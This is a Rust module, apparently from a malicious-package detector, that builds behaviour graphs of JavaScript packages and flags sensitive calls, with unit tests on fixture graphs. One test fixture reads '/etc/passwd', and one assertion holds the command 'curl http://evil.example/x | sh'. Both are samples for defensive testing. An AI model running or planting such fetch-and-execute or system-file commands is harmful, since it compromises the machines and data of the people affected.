//! Behavior-graph construction
//!
//! [`BehaviorBuilder::build`] walks one dependency unit depth-first, resolves
//! every call site through the scope resolvers and the knowledge store, and
//! inlines the graphs of resolved callees, required local files and callback
//! lambdas. Classification is written into the shared [`NodeArena`].

mod assign;
mod invoke;

use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use regex::Regex;
use tracing::{debug, warn};

use crate::behavior::BehaviorGraph;
use crate::category::Category;
use crate::cpg::{GraphStore, NodeId};
use crate::deadline::Deadline;
use crate::error::Result;
use crate::knowledge::{KnowledgeStore, ModuleClass};
use crate::pdg::{
    CallKind, Derivation, DependencyGraph, DependencyNode, EdgeKind, NodeArena, UnitKind,
    is_lambda_name,
};
use crate::scope::{Identifier, IdentifierKind, ScopeResolver};
use crate::sources::{PackageSources, resolve_relative};
use crate::syntax::{NewTarget, new_target, require_literal};

static CALL_NAME: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[a-zA-Z$_][a-zA-Z0-9$_]*$").expect("Invalid regex pattern"));

static FILE_LIKE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b\w+\.(\w+)\b$").expect("Invalid regex pattern"));

/// All dependency units of a package, indexed by entrance id and by file.
#[derive(Debug, Default)]
pub struct UnitIndex {
    units: Vec<DependencyGraph>,
    by_id: HashMap<NodeId, usize>,
    programs: HashMap<String, usize>,
}

impl UnitIndex {
    pub fn new(units: Vec<DependencyGraph>) -> Self {
        let mut by_id = HashMap::new();
        let mut programs = HashMap::new();
        for (index, unit) in units.iter().enumerate() {
            by_id.insert(unit.id(), index);
            if unit.is_program() {
                programs.entry(unit.file().to_string()).or_insert(index);
            }
        }
        Self {
            units,
            by_id,
            programs,
        }
    }

    pub fn get(&self, id: NodeId) -> Option<&DependencyGraph> {
        self.by_id.get(&id).map(|i| &self.units[*i])
    }

    /// Top-level unit of `file`.
    pub fn program(&self, file: &str) -> Option<&DependencyGraph> {
        self.programs.get(file).map(|i| &self.units[*i])
    }

    pub fn by_full_name(&self, full_name: &str) -> Option<&DependencyGraph> {
        self.units.iter().find(|u| u.full_name() == full_name)
    }

    /// Unit named `name` declared in `file`.
    pub fn named(&self, name: &str, file: &str) -> Option<&DependencyGraph> {
        self.units
            .iter()
            .find(|u| u.name() == name && u.file() == file)
    }

    pub fn iter(&self) -> impl Iterator<Item = &DependencyGraph> {
        self.units.iter()
    }

    pub fn len(&self) -> usize {
        self.units.len()
    }

    pub fn is_empty(&self) -> bool {
        self.units.is_empty()
    }
}

/// Mutable state shared by every build of one package.
#[derive(Debug, Default)]
pub struct BuildState {
    pub arena: NodeArena,
    scopes: HashMap<String, ScopeResolver>,
    analyzed: HashSet<NodeId>,
    failed_registrations: HashSet<String>,
    requiring: Vec<String>,
}

impl BuildState {
    pub fn new(arena: NodeArena) -> Self {
        Self {
            arena,
            ..Default::default()
        }
    }

    /// Resets every resolver and declares the named functions of each
    /// package file in its root frame.
    pub fn initialize_scopes(&mut self, units: &UnitIndex, sources: &PackageSources) {
        for resolver in self.scopes.values_mut() {
            resolver.reset();
        }
        for unit in units.iter() {
            if unit.kind() != UnitKind::Function || !sources.contains(unit.file()) {
                continue;
            }
            self.scopes
                .entry(unit.file().to_string())
                .or_insert_with(|| ScopeResolver::new(unit.file()))
                .declare(Identifier::function(unit.name(), unit.file(), unit.id()));
        }
    }

    /// Marks `unit` analyzed; `false` when it already was.
    pub fn mark_analyzed(&mut self, unit: NodeId) -> bool {
        self.analyzed.insert(unit)
    }

    pub fn is_analyzed(&self, unit: NodeId) -> bool {
        self.analyzed.contains(&unit)
    }

    fn scope(&mut self, file: &str) -> &mut ScopeResolver {
        self.scopes
            .entry(file.to_string())
            .or_insert_with(|| ScopeResolver::new(file))
    }
}

pub struct BehaviorBuilder<'a> {
    store: &'a GraphStore,
    units: &'a UnitIndex,
    sources: &'a PackageSources,
    knowledge: &'a dyn KnowledgeStore,
    deadline: &'a Deadline,
    state: &'a mut BuildState,
}

impl<'a> BehaviorBuilder<'a> {
    pub fn new(
        store: &'a GraphStore,
        units: &'a UnitIndex,
        sources: &'a PackageSources,
        knowledge: &'a dyn KnowledgeStore,
        deadline: &'a Deadline,
        state: &'a mut BuildState,
    ) -> Self {
        Self {
            store,
            units,
            sources,
            knowledge,
            deadline,
            state,
        }
    }

    /// Builds the behavior graph rooted at the entrance of `unit_id`.
    pub fn build(&mut self, unit_id: NodeId) -> Result<BehaviorGraph> {
        let units = self.units;
        let mut graph = BehaviorGraph::new(unit_id);
        let Some(unit) = units.get(unit_id) else {
            return Ok(graph);
        };

        let mut visited = HashSet::new();
        let mut stack: Vec<(NodeId, Option<NodeId>)> = vec![(unit.id(), None)];
        while let Some((current, former)) = stack.pop() {
            self.deadline.check()?;
            if !visited.insert(current) {
                if let Some(former) = former {
                    self.revisit(unit, &mut graph, former, current);
                }
                continue;
            }

            graph.add_node(current);
            self.first_visit(unit, &mut graph, current, former)?;
            for next in self.ordered_successors(unit, current).into_iter().rev() {
                stack.push((next, Some(current)));
            }
        }
        Ok(graph)
    }

    fn first_visit(
        &mut self,
        unit: &DependencyGraph,
        graph: &mut BehaviorGraph,
        current: NodeId,
        former: Option<NodeId>,
    ) -> Result<()> {
        let Some(node) = self.node(current) else {
            return Ok(());
        };
        if node.entrance {
            return Ok(());
        }

        match node.kind.as_str() {
            "RETURN" => {
                graph.add_return(current);
                self.update(current, |n| n.is_return_value = true);
                link_incoming(unit, graph, former, current);
            }
            "METHOD_PARAMETER_IN" => {
                link_incoming(unit, graph, former, current);
                if node.name() != "this" {
                    self.declare(Identifier::new(
                        node.name(),
                        node.line,
                        IdentifierKind::Identifier,
                        Some(current),
                        node.file.as_str(),
                    ));
                }
            }
            "CALL" => self.classify_call(unit, graph, &node, former)?,
            _ => link_incoming(unit, graph, former, current),
        }
        Ok(())
    }

    /// Control-flow successors in encounter order, then data-flow successors
    /// stably sorted by line.
    fn ordered_successors(&self, unit: &DependencyGraph, current: NodeId) -> Vec<NodeId> {
        let (mut ordered, mut data): (Vec<NodeId>, Vec<NodeId>) = unit
            .successors(current)
            .iter()
            .copied()
            .partition(|s| unit.edge_kind(current, *s) != Some(EdgeKind::Ddg));
        data.sort_by_key(|s| self.state.arena.get(*s).map(|n| n.line).unwrap_or(usize::MAX));
        ordered.extend(data);
        ordered
    }

    fn revisit(
        &mut self,
        unit: &DependencyGraph,
        graph: &mut BehaviorGraph,
        former: NodeId,
        current: NodeId,
    ) {
        let tags = incoming_tags(unit, Some(former), current);
        let (Some(source), Some(target)) = (self.node(former), self.node(current)) else {
            graph.add_edge(former, current, &tags);
            return;
        };

        if target.name() == "<operator>.formatString" {
            if source.has_resolved_callee() {
                substitute_returns(graph, &source, current, &tags);
            } else {
                graph.add_edge(former, current, &tags);
            }
            return;
        }

        if EdgeKind::classify(&tags) == EdgeKind::Ddg {
            if target.call_kind == Some(CallKind::Assignment) {
                if source.has_resolved_callee() {
                    substitute_returns(graph, &source, current, &tags);
                } else {
                    graph.add_edge(former, current, &tags);
                }
                return;
            }
            if target.callee.is_some() {
                if source.has_resolved_callee() {
                    substitute_returns(graph, &source, current, &tags);
                }
                graph.add_edge(former, current, &tags);
                return;
            }
        }
        graph.add_edge(former, current, &tags);
    }

    fn classify_call(
        &mut self,
        unit: &DependencyGraph,
        graph: &mut BehaviorGraph,
        node: &DependencyNode,
        former: Option<NodeId>,
    ) -> Result<()> {
        let name = node.name();
        let tags = incoming_tags(unit, former, node.id);

        match name {
            "<operator>.assignment" => {
                self.assignment(unit, graph, node, former)?;
                if let Some(former) = former {
                    graph.ensure_edge(former, node.id, &tags);
                }
            }
            "<operator>.assignmentPlus" => {
                let left = self
                    .store
                    .ast_children(node.id)
                    .first()
                    .and_then(|c| c.code())
                    .map(str::to_string);
                if let Some(left) = left {
                    let target = self.lookup(&node.file, &left, node.line).and_then(|i| i.node);
                    if let Some(target) = target {
                        graph.add_edge(node.id, target, &[format!("DDG: {left}")]);
                    }
                }
                link_incoming(unit, graph, former, node.id);
            }
            "<operator>.formatString" => {
                if let Some(former) = former {
                    match self.node(former) {
                        Some(source) => substitute_returns(graph, &source, node.id, &tags),
                        None => graph.add_edge(former, node.id, &tags),
                    }
                }
            }
            "<operator>.new" => {
                link_incoming(unit, graph, former, node.id);
                if new_target(node.code()) == Some(NewTarget::Ident("Function".into())) {
                    self.mark_sensitive(node.id, vec![Category::DYNAMIC_PROGRAM]);
                }
            }
            "require" => {
                link_incoming(unit, graph, former, node.id);
                self.require(graph, node)?;
            }
            _ if CALL_NAME.is_match(name) && !name.contains("<operator>") && !is_lambda_name(name) => {
                if let Some(former) = former {
                    if name == "then" {
                        graph.add_edge(former, node.id, &["DDG"]);
                    } else {
                        graph.add_edge(former, node.id, &tags);
                    }
                }
                self.invoke(unit, graph, node)?;
            }
            _ => link_incoming(unit, graph, former, node.id),
        }

        self.inline_lambda_argument(graph, node)
    }

    /// Inlines the top-level code of a required local file.
    fn require(&mut self, graph: &mut BehaviorGraph, node: &DependencyNode) -> Result<()> {
        let Some(module) = require_literal(node.code()) else {
            return Ok(());
        };
        if self.classify(&module)? == ModuleClass::Builtin {
            return Ok(());
        }
        if !self.is_local_file(&node.file, &module) {
            return Ok(());
        }

        let entity = module.strip_suffix(".js").unwrap_or(&module);
        let path = format!("{}.js", resolve_relative(&node.file, entity));
        if !self.sources.contains(&path) {
            return Ok(());
        }
        let units = self.units;
        let Some(program) = units.program(&path) else {
            debug!(file = %path, "required file has no program unit");
            return Ok(());
        };
        if self.state.requiring.contains(&path) {
            debug!(file = %path, "cyclic require");
            return Ok(());
        }

        self.state.mark_analyzed(program.id());
        self.state.requiring.push(path);
        let required = self.build(program.id());
        self.state.requiring.pop();
        let required = required?;

        graph.add_edge(node.id, required.entrance(), &["CFG"]);
        graph.join(&required);
        Ok(())
    }

    fn is_local_file(&self, file: &str, entity: &str) -> bool {
        entity.starts_with('.')
            || entity.starts_with('/')
            || entity.ends_with(".js")
            || FILE_LIKE.is_match(entity)
            || self
                .sources
                .contains(&format!("{}.js", resolve_relative(file, entity)))
    }

    /// Inlines a lambda passed as the last argument of a call.
    fn inline_lambda_argument(
        &mut self,
        graph: &mut BehaviorGraph,
        node: &DependencyNode,
    ) -> Result<()> {
        let store = self.store;
        let arguments = store.arguments(node.id);
        let Some(last) = arguments.last() else {
            return Ok(());
        };
        let Some(full_name) = last.method_full_name() else {
            return Ok(());
        };
        if !is_lambda_name(last.code().unwrap_or_default()) {
            return Ok(());
        }
        let units = self.units;
        let Some(lambda) = units.by_full_name(full_name) else {
            return Ok(());
        };

        self.state.mark_analyzed(lambda.id());
        self.state.scope(&node.file).push(lambda.name());
        graph.add_edge(node.id, lambda.id(), &["DDG"]);
        let result = self.build(lambda.id());
        self.state.scope(&node.file).pop();
        graph.join(&result?);
        Ok(())
    }

    fn node(&self, id: NodeId) -> Option<DependencyNode> {
        self.state.arena.get(id).cloned()
    }

    fn update(&mut self, id: NodeId, f: impl FnOnce(&mut DependencyNode)) {
        if let Some(node) = self.state.arena.get_mut(id) {
            f(node);
        }
    }

    /// Marks the node sensitive when `categories` is non-empty.
    fn mark_sensitive(&mut self, id: NodeId, categories: Vec<Category>) -> bool {
        if categories.is_empty() {
            return false;
        }
        self.update(id, |n| n.mark_sensitive(categories));
        true
    }

    fn resolve_call(&mut self, id: NodeId, full_name: String, derivation: Derivation) {
        self.update(id, |n| {
            n.full_name = Some(full_name);
            n.derivation = Some(derivation);
        });
    }

    fn lookup(&self, file: &str, name: &str, line: usize) -> Option<Identifier> {
        self.state
            .scopes
            .get(file)
            .and_then(|s| s.lookup(name, line))
            .cloned()
    }

    fn declare(&mut self, identifier: Identifier) {
        let file = identifier.file.clone();
        self.state.scope(&file).declare(identifier);
    }

    fn classify(&self, module: &str) -> Result<ModuleClass> {
        Ok(self.knowledge.classify(module)?)
    }

    fn sensitive_call(
        &self,
        qualifier: &str,
        call: &str,
        derivation: Derivation,
        hint: Option<Category>,
    ) -> Result<Vec<Category>> {
        Ok(self
            .knowledge
            .sensitive_call(qualifier, call, derivation, hint)?)
    }

    /// Best-effort registration of an unknown module. Failures are cached for
    /// the rest of the package run.
    fn register(&mut self, module: &str) -> bool {
        if self.state.failed_registrations.contains(module) {
            return false;
        }
        let registered = match self
            .knowledge
            .register_module(module, self.sources.dependencies())
        {
            Ok(registered) => registered,
            Err(err) => {
                warn!(module, error = %err, "module registration failed");
                false
            }
        };
        if !registered {
            self.state.failed_registrations.insert(module.to_string());
        }
        registered
    }
}

fn incoming_tags(unit: &DependencyGraph, former: Option<NodeId>, current: NodeId) -> Vec<String> {
    former
        .and_then(|f| unit.tags(f, current))
        .map(<[String]>::to_vec)
        .unwrap_or_default()
}

fn link_incoming(
    unit: &DependencyGraph,
    graph: &mut BehaviorGraph,
    former: Option<NodeId>,
    current: NodeId,
) {
    if let Some(former) = former {
        graph.add_edge(former, current, &incoming_tags(unit, Some(former), current));
    }
}

/// Links the identifier's declaring node to `current`, reusing the unit's
/// tags for that pair when it has them.
fn link_identifier(
    unit: &DependencyGraph,
    graph: &mut BehaviorGraph,
    source: NodeId,
    current: NodeId,
    name: &str,
) {
    match unit.tags(source, current) {
        Some(tags) => graph.add_edge(source, current, tags),
        None => graph.add_edge(source, current, &[format!("DDG: {name}")]),
    }
}

/// Routes data from the return values of `source`'s callee into `target`.
fn substitute_returns(
    graph: &mut BehaviorGraph,
    source: &DependencyNode,
    target: NodeId,
    tags: &[String],
) {
    let returns = source
        .callee
        .as_ref()
        .map(|c| c.returns.as_slice())
        .unwrap_or_default();
    if returns.is_empty() {
        graph.add_edge(source.id, target, tags);
        return;
    }

    let tags: Vec<String> = if EdgeKind::classify(tags) == EdgeKind::Ddg {
        tags.to_vec()
    } else {
        vec!["DDG".to_string()]
    };
    for ret in returns {
        graph.add_edge(*ret, target, &tags);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dot::DotGraph;
    use crate::knowledge::StaticKnowledgeStore;

    pub(super) struct Fixture {
        pub store: GraphStore,
        pub units: UnitIndex,
        pub sources: PackageSources,
        pub state: BuildState,
        pub knowledge: StaticKnowledgeStore,
    }

    impl Fixture {
        pub fn new(cpg: &str, pdgs: &[&str]) -> Self {
            let store = GraphStore::parse(cpg).unwrap();
            let mut arena = NodeArena::new();
            let units: Vec<DependencyGraph> = pdgs
                .iter()
                .filter_map(|p| {
                    DependencyGraph::from_dot(&DotGraph::parse(p).unwrap(), &store, &mut arena)
                })
                .collect();
            let files: Vec<String> = units.iter().map(|u| u.file().to_string()).collect();
            let units = UnitIndex::new(units);
            let sources = PackageSources::new(files, vec![]);
            let mut state = BuildState::new(arena);
            state.initialize_scopes(&units, &sources);
            Self {
                store,
                units,
                sources,
                state,
                knowledge: StaticKnowledgeStore::with_defaults(),
            }
        }

        pub fn build(&mut self, unit: NodeId) -> BehaviorGraph {
            let deadline = Deadline::unlimited();
            BehaviorBuilder::new(
                &self.store,
                &self.units,
                &self.sources,
                &self.knowledge,
                &deadline,
                &mut self.state,
            )
            .build(unit)
            .unwrap()
        }

        pub fn node(&self, id: NodeId) -> &DependencyNode {
            self.state.arena.get(id).unwrap()
        }

        pub fn lookup(&self, file: &str, name: &str, line: usize) -> Identifier {
            self.state.scopes[file].lookup(name, line).cloned().unwrap()
        }
    }

    const READ_CPG: &str = r#"digraph {
"1" [label = "METHOD" NAME=":program" FULL_NAME="package/index.js::program" FILENAME="package/index.js" ]
"2" [label = "CALL" NAME="<operator>.assignment" CODE="fs = require('fs')" LINE_NUMBER="1" COLUMN_NUMBER="6" ]
"3" [label = "IDENTIFIER" NAME="fs" CODE="fs" LINE_NUMBER="1" ORDER="1" ]
"4" [label = "CALL" NAME="require" CODE="require('fs')" LINE_NUMBER="1" ORDER="2" ]
"5" [label = "CALL" NAME="readFileSync" CODE="fs.readFileSync('/etc/passwd')" LINE_NUMBER="2" COLUMN_NUMBER="0" ]
"6" [label = "IDENTIFIER" NAME="fs" CODE="fs" LINE_NUMBER="2" ARGUMENT_INDEX="0" ]
"7" [label = "LITERAL" CODE="'/etc/passwd'" LINE_NUMBER="2" ARGUMENT_INDEX="1" ]
"2" -> "3" [ label = "AST" ]
"2" -> "4" [ label = "AST" ]
"5" -> "6" [ label = "ARGUMENT" ]
"5" -> "7" [ label = "ARGUMENT" ]
}"#;

    const READ_PDG: &str = r#"digraph ":program" {
"1" [NODE_TYPE="METHOD" NAME=":program" FULL_NAME="package/index.js::program" FILENAME="package/index.js" ]
"4" [NODE_TYPE="CALL" NAME="require" LINE_NUMBER="1" ]
"2" [NODE_TYPE="CALL" NAME="<operator>.assignment" LINE_NUMBER="1" COLUMN_NUMBER="6" ]
"5" [NODE_TYPE="CALL" NAME="readFileSync" LINE_NUMBER="2" COLUMN_NUMBER="0" ]
"1" -> "4" [ label = "CFG" ]
"4" -> "2" [ label = "CFG" ]
"4" -> "2" [ label = "DDG: require('fs')" ]
"2" -> "5" [ label = "CFG" ]
"2" -> "5" [ label = "DDG: fs" ]
}"#;

    #[test]
    fn builtin_method_call_is_marked_sensitive() {
        let mut fixture = Fixture::new(READ_CPG, &[READ_PDG]);

        let graph = fixture.build(1);

        let read = fixture.node(5);
        assert!(read.sensitive);
        assert_eq!(read.categories, [Category::READ_FILE]);
        assert_eq!(read.full_name.as_deref(), Some("fs.readFileSync"));
        assert_eq!(read.derivation, Some(Derivation::Builtin));
        assert_eq!(graph.edge_kind(2, 5), Some(EdgeKind::Ddg));
        assert_eq!(fixture.node(2).call_kind, Some(CallKind::Assignment));
    }

    #[test]
    fn rebuilding_with_fresh_scopes_is_idempotent() {
        let mut fixture = Fixture::new(READ_CPG, &[READ_PDG]);
        let first = fixture.build(1);
        fixture.state.initialize_scopes(&fixture.units, &fixture.sources);

        let second = fixture.build(1);

        assert_eq!(first.nodes(), second.nodes());
        assert_eq!(first.edge_count(), second.edge_count());
        for ((source, target), tags) in first.edges() {
            assert_eq!(second.tags(*source, *target), Some(tags.as_slice()));
        }
    }

    const FANOUT_CPG: &str = r#"digraph {
"1" [label = "METHOD" NAME=":program" FULL_NAME="package/index.js::program" FILENAME="package/index.js" ]
"2" [label = "CALL" NAME="start" CODE="start()" LINE_NUMBER="1" COLUMN_NUMBER="0" ]
"3" [label = "CALL" NAME="late" CODE="late(a)" LINE_NUMBER="5" COLUMN_NUMBER="0" ]
"4" [label = "CALL" NAME="early" CODE="early(b)" LINE_NUMBER="3" COLUMN_NUMBER="0" ]
"5" [label = "CALL" NAME="middle" CODE="middle(c)" LINE_NUMBER="4" COLUMN_NUMBER="0" ]
"6" [label = "CALL" NAME="next" CODE="next()" LINE_NUMBER="2" COLUMN_NUMBER="0" ]
}"#;

    const FANOUT_PDG: &str = r#"digraph ":program" {
"1" [NODE_TYPE="METHOD" NAME=":program" FILENAME="package/index.js" ]
"2" [NODE_TYPE="CALL" NAME="start" LINE_NUMBER="1" ]
"3" [NODE_TYPE="CALL" NAME="late" LINE_NUMBER="5" ]
"4" [NODE_TYPE="CALL" NAME="early" LINE_NUMBER="3" ]
"5" [NODE_TYPE="CALL" NAME="middle" LINE_NUMBER="4" ]
"6" [NODE_TYPE="CALL" NAME="next" LINE_NUMBER="2" ]
"1" -> "2" [ label = "CFG" ]
"2" -> "3" [ label = "DDG: a" ]
"2" -> "4" [ label = "CFG" ]
"2" -> "4" [ label = "DDG: b" ]
"2" -> "6" [ label = "CFG" ]
"2" -> "5" [ label = "DDG: c" ]
}"#;

    #[test]
    fn merged_edges_are_walked_once_in_data_order() {
        let mut fixture = Fixture::new(FANOUT_CPG, &[FANOUT_PDG]);
        let deadline = Deadline::unlimited();
        let unit = fixture.units.get(1).unwrap();
        let builder = BehaviorBuilder::new(
            &fixture.store,
            &fixture.units,
            &fixture.sources,
            &fixture.knowledge,
            &deadline,
            &mut fixture.state,
        );

        assert_eq!(builder.ordered_successors(unit, 2), [6, 4, 5, 3]);
    }

    #[test]
    fn control_and_data_edge_to_one_target_yields_it_once() {
        let mut fixture = Fixture::new(READ_CPG, &[READ_PDG]);
        let deadline = Deadline::unlimited();
        let unit = fixture.units.get(1).unwrap();
        let builder = BehaviorBuilder::new(
            &fixture.store,
            &fixture.units,
            &fixture.sources,
            &fixture.knowledge,
            &deadline,
            &mut fixture.state,
        );

        assert_eq!(builder.ordered_successors(unit, 2), [5]);
        assert_eq!(builder.ordered_successors(unit, 4), [2]);
    }

    const LOCAL_CPG: &str = r#"digraph {
"1" [label = "METHOD" NAME=":program" FULL_NAME="package/index.js::program" FILENAME="package/index.js" ]
"2" [label = "CALL" NAME="require" CODE="require('./util')" LINE_NUMBER="1" COLUMN_NUMBER="0" ]
"3" [label = "CALL" NAME="require" CODE="require('./util')" LINE_NUMBER="2" COLUMN_NUMBER="0" ]
"10" [label = "METHOD" NAME=":program" FULL_NAME="package/util.js::program" FILENAME="package/util.js" ]
"11" [label = "CALL" NAME="log" CODE="console.log('hi')" LINE_NUMBER="1" COLUMN_NUMBER="0" ]
}"#;

    const LOCAL_INDEX_PDG: &str = r#"digraph ":program" {
"1" [NODE_TYPE="METHOD" NAME=":program" FILENAME="package/index.js" ]
"2" [NODE_TYPE="CALL" NAME="require" LINE_NUMBER="1" ]
"1" -> "2" [ label = "CFG" ]
}"#;

    const LOCAL_UTIL_PDG: &str = r#"digraph ":program" {
"10" [NODE_TYPE="METHOD" NAME=":program" FILENAME="package/util.js" ]
"11" [NODE_TYPE="CALL" NAME="log" LINE_NUMBER="1" ]
"10" -> "11" [ label = "CFG" ]
}"#;

    #[test]
    fn local_require_inlines_sibling_program_once() {
        let mut fixture = Fixture::new(LOCAL_CPG, &[LOCAL_INDEX_PDG, LOCAL_UTIL_PDG]);

        let graph = fixture.build(1);

        assert_eq!(graph.tags(2, 10).unwrap(), ["CFG"]);
        assert!(graph.contains(11));
        assert_eq!(graph.predecessors(10), [2]);
        assert!(fixture.state.is_analyzed(10));
    }

    const FUNCTION_CPG: &str =
        include_str!("../../tests/fixtures/local_function/graphs/pkg/cpg/export.dot");
    const FUNCTION_MAIN: &str =
        include_str!("../../tests/fixtures/local_function/graphs/pkg/pdg/0-pdg.dot");
    const FUNCTION_UTIL: &str =
        include_str!("../../tests/fixtures/local_function/graphs/pkg/pdg/1-pdg.dot");
    const FUNCTION_RUN: &str =
        include_str!("../../tests/fixtures/local_function/graphs/pkg/pdg/2-pdg.dot");

    fn local_function_fixture() -> Fixture {
        Fixture::new(FUNCTION_CPG, &[FUNCTION_MAIN, FUNCTION_UTIL, FUNCTION_RUN])
    }

    #[test]
    fn exported_function_of_local_module_is_inlined_once() {
        let mut fixture = local_function_fixture();

        let graph = fixture.build(1);

        assert_eq!(graph.tags(3, 10).unwrap(), ["CFG"]);
        assert_eq!(graph.tags(5, 20).unwrap(), ["DDG"]);
        assert_eq!(graph.predecessors(20), [5]);
        assert!(fixture.state.is_analyzed(10));
        assert!(fixture.state.is_analyzed(20));

        let call = fixture.node(5);
        assert_eq!(call.call_kind, Some(CallKind::LocalModuleCall));
        assert_eq!(call.callee.as_ref().map(|c| c.returns.clone()), Some(vec![23]));
        assert_eq!(graph.tags(23, 4).unwrap(), ["DDG"]);
        assert_eq!(fixture.node(22).categories, [Category::EXECUTE_COMMAND]);
        assert_eq!(
            fixture.lookup("package/index.js", "out", 3).kind,
            IdentifierKind::LocalModuleReturnValue
        );
    }

    #[test]
    fn revisited_assignment_takes_callee_returns() {
        let mut fixture = local_function_fixture();
        fixture.build(1);
        let deadline = Deadline::unlimited();
        let unit = fixture.units.get(1).unwrap();
        let mut builder = BehaviorBuilder::new(
            &fixture.store,
            &fixture.units,
            &fixture.sources,
            &fixture.knowledge,
            &deadline,
            &mut fixture.state,
        );
        let mut graph = BehaviorGraph::new(1);

        builder.revisit(unit, &mut graph, 5, 4);

        assert!(!graph.has_edge(5, 4));
        assert_eq!(
            graph.tags(23, 4).unwrap(),
            ["CFG", "DDG: util.run('curl http://evil.example/x | sh')"]
        );
    }

    const RECURSIVE_CPG: &str = r#"digraph {
"1" [label = "METHOD" NAME=":program" FULL_NAME="package/index.js::program" FILENAME="package/index.js" ]
"2" [label = "CALL" NAME="ping" CODE="ping()" LINE_NUMBER="5" COLUMN_NUMBER="0" ]
"10" [label = "METHOD" NAME="ping" FULL_NAME="package/index.js::program:ping" FILENAME="package/index.js" ]
"11" [label = "CALL" NAME="pong" CODE="pong()" LINE_NUMBER="1" COLUMN_NUMBER="17" ]
"20" [label = "METHOD" NAME="pong" FULL_NAME="package/index.js::program:pong" FILENAME="package/index.js" ]
"21" [label = "CALL" NAME="ping" CODE="ping()" LINE_NUMBER="2" COLUMN_NUMBER="17" ]
"22" [label = "CALL" NAME="pong" CODE="pong()" LINE_NUMBER="3" COLUMN_NUMBER="0" ]
}"#;

    const RECURSIVE_MAIN: &str = r#"digraph ":program" {
"1" [NODE_TYPE="METHOD" NAME=":program" FILENAME="package/index.js" ]
"2" [NODE_TYPE="CALL" NAME="ping" LINE_NUMBER="5" ]
"1" -> "2" [ label = "CFG" ]
}"#;

    const RECURSIVE_PING: &str = r#"digraph "ping" {
"10" [NODE_TYPE="METHOD" NAME="ping" FILENAME="package/index.js" ]
"11" [NODE_TYPE="CALL" NAME="pong" LINE_NUMBER="1" ]
"10" -> "11" [ label = "CFG" ]
}"#;

    const RECURSIVE_PONG: &str = r#"digraph "pong" {
"20" [NODE_TYPE="METHOD" NAME="pong" FILENAME="package/index.js" ]
"21" [NODE_TYPE="CALL" NAME="ping" LINE_NUMBER="2" ]
"22" [NODE_TYPE="CALL" NAME="pong" LINE_NUMBER="3" ]
"20" -> "21" [ label = "CFG" ]
"21" -> "22" [ label = "CFG" ]
}"#;

    #[test]
    fn mutual_and_self_recursion_terminate() {
        let mut fixture = Fixture::new(
            RECURSIVE_CPG,
            &[RECURSIVE_MAIN, RECURSIVE_PING, RECURSIVE_PONG],
        );

        let graph = fixture.build(1);

        assert_eq!(graph.tags(2, 10).unwrap(), ["DDG"]);
        assert_eq!(graph.tags(11, 20).unwrap(), ["DDG"]);
        assert!(graph.contains(22));
        assert_eq!(fixture.node(2).call_kind, Some(CallKind::FunctionCall));
        assert_eq!(fixture.node(2).callee.as_ref().map(|c| c.entrance), Some(10));
        assert!(fixture.node(21).callee.is_none());
    }
}
